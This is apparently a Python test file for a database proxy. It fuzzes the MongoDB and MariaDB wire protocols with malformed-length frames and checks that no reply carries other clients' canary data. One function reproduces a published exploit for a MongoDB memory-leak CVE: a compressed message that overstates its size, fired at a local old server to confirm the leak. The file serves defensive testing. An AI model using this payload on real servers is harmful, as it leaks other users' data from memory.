"""Frames with wrong lengths, while other clients send canaries: no reply may contain one.

The same frames find the leak of MongoDB 6.0.5 (CVE-2025-14847), which trusts the size that a
compressed message claims. SELKIE_BLACK_BOX_FRAMES sets the number of frames of each test.
`crates/mongo-session/tests/frames.rs` does the same within a process, with many more frames.
"""

import contextlib
import os
import random
import re
import socket
import struct
import threading
import zlib

import bson
import pymysql
import pytest

from support.frames import Frame, Length, add_bson, changed
from support.mongod import MongodServer
from support.process import free_port
from support.selkie import SelkieServer
from support.wire import OP_COMPRESSED, OP_MSG, Wire, message, op_compressed_zlib, op_msg, op_query

pytestmark = [pytest.mark.selkie_only, pytest.mark.timeout(1200)]

FRAMES = int(os.environ.get("SELKIE_BLACK_BOX_FRAMES", 1500))
CANARY = "CANARY"
TEXT = f"{CANARY}-of-another-client-" * 40


class Others:
    """Clients that send canaries all the while."""

    def __init__(self, *work):
        self.done = False
        self.threads = [threading.Thread(target=self.repeat, args=(each,)) for each in work]

    def repeat(self, work):
        while not self.done:
            work()

    def __enter__(self):
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self.done = True
        for thread in self.threads:
            thread.join()


def mongo_others(port: int):
    """Sends the canaries in plain and in compressed messages, and receives them."""
    wire = Wire(port, timeout_s=30)
    secret = {"insert": "secrets", "documents": [{"_id": 1, TEXT[:60]: TEXT}], "$db": "others"}
    wire.run(secret)
    requests = [{"find": "secrets", "$db": "others"}, {"find": "secrets", "filter": {"s": TEXT}, "comment": TEXT, "$db": "others"}]

    def work():
        for request in requests:
            wire.run(request)
            wire.send(op_compressed_zlib(op_msg(request)))
            wire.receive()

    return work


def mongo_frames() -> list[Frame]:
    frames = []
    for name, command in {
        "ping": {"ping": 1, "comment": "a comment", "$db": "admin"},
        "find": {"find": "c", "filter": {"a": {"b": ["x", b"bytes"]}}, "notAField": 1, "$db": "test"},
        "unknown": {"noSuchCommand": "a text", "$db": "a database"},
    }.items():
        data = op_msg(command)
        frames.append(add_bson(Frame(name, data, [Length(0, 4, 0, len(data))]), 21))
    data = op_msg({"insert": "c", "ordered": True, "$db": "test"}, sequences={"documents": [{"_id": 1, "s": "text"}]})
    sequence = 21 + struct.unpack_from("<i", data, 21)[0] + 1
    lengths = [Length(0, 4, 0, len(data)), Length(sequence, 4, sequence, len(data))]
    frames.append(add_bson(add_bson(Frame("insert", data, lengths), 21), sequence + 14))
    data = op_query("test.$cmd", {"find": "c", "filter": {"s": "text"}})
    frames.append(add_bson(Frame("OP_QUERY", data, [Length(0, 4, 0, len(data))]), len(data) - len(bson.encode({"find": "c", "filter": {"s": "text"}}))))
    return frames


def compressed(plain: bytes) -> bytes:
    """Compresses a changed message, which claims the size that its header says."""
    claimed = struct.unpack_from("<i", plain)[0] - 16
    return op_compressed_zlib(plain, max(-(1 << 31), min(claimed, (1 << 31) - 1)))


def inflated_document(size: int) -> bytes:
    """The published exploit: a document that claims more bytes than were compressed."""
    inner = struct.pack("<I", 0) + b"\0" + struct.pack("<i", size) + b"\x10a\0\1\0\0\0"
    return message(OP_COMPRESSED, struct.pack("<iib", OP_MSG, size + 500, 2) + zlib.compress(inner))


def exchange(port: int, data: bytes) -> bytes:
    """Sends bytes on a connection of their own, and returns all that comes back."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        received = b""
        with contextlib.suppress(ConnectionError):
            connection.sendall(data)
            connection.shutdown(socket.SHUT_WR)
            while piece := connection.recv(1 << 16):
                received += piece
        return received


def mongo_replies(port: int, count: int, seed: int):
    """The replies to `count` frames, half of them compressed, a fifth of them the exploit."""
    chance, frames = random.Random(seed), mongo_frames()
    for number in range(count):
        if number % 5 == 0:
            yield exchange(port, inflated_document(chance.choice([20 + number % 1000, chance.randrange(20, 8192)])))
        else:
            plain = changed(chance.choice(frames), chance)
            yield exchange(port, compressed(plain) if number % 2 and len(plain) > 16 else plain)


def decoded(reply: bytes) -> bytes:
    """A reply with its compressed parts unpacked."""
    text, at = reply, 0
    while at + 25 < len(reply):
        (length, _, _, opcode) = struct.unpack_from("<iiii", reply, at)
        if opcode == OP_COMPRESSED and length > 25 and reply[at + 24] == 2:
            text += zlib.decompress(reply[at + 25 : at + length])
        at += max(length, 16)
    return text


# The exploit's document has one field, `a`. MongoDB reads `?` where it finds none.
NAMED = re.compile(rb"element with field name '([^']*)'")


def is_foreign(reply: bytes) -> bool:
    """Returns whether a reply has the canary, or names a field that no frame has."""
    reply = decoded(reply)
    names = set(NAMED.findall(reply)) - {b"a", b"", b"?"}
    return CANARY.encode() in reply or any(name not in b"".join(frame.data for frame in mongo_frames()) for name in names)


def test_mongodb_clients_get_no_foreign_bytes(server):
    with Others(mongo_others(server.port), mongo_others(server.port)):
        for reply in mongo_replies(server.port, FRAMES, 1):
            assert not is_foreign(reply), decoded(reply)
    with Wire(server.port) as wire:
        assert wire.run({"ping": 1, "$db": "admin"})["ok"] == 1


def test_the_same_frames_find_the_leak_of_an_old_mongodb(tmp_path):
    mongod = MongodServer(tmp_path).start()
    try:
        with Others(mongo_others(mongod.port), mongo_others(mongod.port)):
            replies = enumerate(mongo_replies(mongod.port, 5000, 1))
            found = next((number for number, reply in replies if is_foreign(reply)), None)
        print(f"\nfound after {found} frames")
        assert found is not None
    finally:
        mongod.kill()


class SqlFrames:
    """A MariaDB client's packets, with their lengths."""

    def __init__(self, mariadb, folder):
        self.port = free_port()
        self.mariadb = mariadb
        mariadb.sql("CREATE USER IF NOT EXISTS frames@'%' IDENTIFIED BY 'secret'")
        mariadb.sql("CREATE DATABASE IF NOT EXISTS frames")
        mariadb.sql("GRANT ALL PRIVILEGES ON frames.* TO frames@'%'")
        mariadb.sql("CREATE OR REPLACE TABLE frames.t (id INT PRIMARY KEY, s TEXT)")
        mariadb.sql("INSERT INTO frames.t VALUES (1, %s)", TEXT)

        class OverTcp:
            url = staticmethod(mariadb.tcp_url)

        options = ("--sql-listen", f"127.0.0.1:{self.port}", "--threads", "1", "--cache", "results", "--external-writes", "none")
        self.selkie = SelkieServer(folder / "frames", OverTcp, options).start()

    def connect(self, **options) -> pymysql.Connection:
        login = {"user": "frames", "password": "secret", "database": "frames"}
        return pymysql.connect(host="127.0.0.1", port=self.port, read_timeout=20, **(login | options))

    def others(self):
        connection = self.connect()

        def work():
            with connection.cursor() as cursor:
                cursor.execute("SELECT s FROM t WHERE id = 1")
                assert cursor.fetchone() == (TEXT,)
                cursor.execute("SELECT %s", (TEXT,))
                cursor.fetchone()

        return work


def packet(payload: bytes, number: int = 0) -> bytes:
    return len(payload).to_bytes(3, "little") + bytes([number]) + payload


def login_frame() -> Frame:
    """A login with a lenenc-coded reply to the scramble, a database, a plugin and attributes."""
    # 4.1 protocol, secure connection, database, plugin, attributes, lenenc authentication data.
    capabilities = 1 << 9 | 1 << 15 | 1 << 3 | 1 << 19 | 1 << 20 | 1 << 21
    start = struct.pack("<IIB", capabilities, 1 << 24, 33) + bytes(23) + b"frames\0"
    attributes = b"\x03key\x05value"
    payload = start + b"\x14" + bytes(20) + b"frames\0mysql_native_password\0" + bytes([len(attributes)]) + attributes
    frame = Frame("login", packet(payload, 1))
    end, auth, at = len(frame.data), 4 + len(start), len(frame.data) - len(attributes) - 1
    frame.lengths = [
        Length(0, 3, 4, end), Length(auth, 1, auth + 1, auth + 21), Length(at, 1, at + 1, end),
        Length(at + 1, 1, at + 2, at + 5), Length(at + 5, 1, at + 6, end),
    ]
    return frame


def command_frames() -> list[Frame]:
    query = b"\x03SELECT 1 + 1"
    execute = b"\x17" + struct.pack("<IBI", 1, 0, 1) + b"\0\1\xfd\0" + b"\x04text"
    bulk = b"\xfa" + struct.pack("<IH", 1, 0x80) + b"\xfd\0" + b"\0\x04text"
    change_user = b"\x11frames\0\x14" + bytes(20) + b"frames\0\x21\0mysql_native_password\0\x0a\x03key\x05value"
    frames = []
    for name, payload, inner in [
        ("query", query, []),
        ("prepare", b"\x16SELECT ?", []),
        ("execute", execute, [len(execute) - 5]),
        ("bulk execute", bulk, [len(bulk) - 5]),
        ("long data", b"\x18" + struct.pack("<IH", 1, 0) + b"text", []),
        ("use", b"\x02frames", []),
        ("fields", b"\x04t\0", []),
        ("change user", change_user, [8, len(change_user) - 11]),
        ("unknown command", b"\x7fxyz", []),
    ]:
        frame = Frame(name, packet(payload), [Length(0, 3, 4, 4 + len(payload))])
        frame.lengths += [Length(4 + at, 1, 5 + at, 4 + len(payload)) for at in inner]
        frames.append(frame)
    return frames


def receive_all(connection: socket.socket) -> bytes:
    received = b""
    with contextlib.suppress(ConnectionError):
        connection.shutdown(socket.SHUT_WR)
        while piece := connection.recv(1 << 16):
            received += piece
    return received


@pytest.mark.mariadb_only
def test_sql_clients_get_no_canary(mariadb, tmp_path):
    sql, chance, frames = SqlFrames(mariadb, tmp_path), random.Random(3), command_frames()
    try:
        with Others(sql.others(), sql.others()):
            for number in range(FRAMES // 12):
                if number % 3 == 0:
                    connection = socket.create_connection(("127.0.0.1", sql.port), timeout=20)
                    greeting = connection.recv(1 << 16)
                    assert greeting[4] == 10 and CANARY.encode() not in greeting
                    data = changed(login_frame(), chance)
                else:
                    # pymysql logs in; then its socket is ours.
                    logged_in = sql.connect()
                    connection, logged_in._sock = logged_in._sock, None
                    data = packet(b"\x16SELECT ?") * (number % 2) + changed(chance.choice(frames), chance)
                with connection, contextlib.suppress(ConnectionError):
                    connection.sendall(data)
                    assert CANARY.encode() not in receive_all(connection)
        with sql.connect() as again, again.cursor() as cursor:
            cursor.execute("SELECT 1")
            assert cursor.fetchone() == (1,)
        assert sql.selkie.is_running()
    finally:
        sql.selkie.remove()
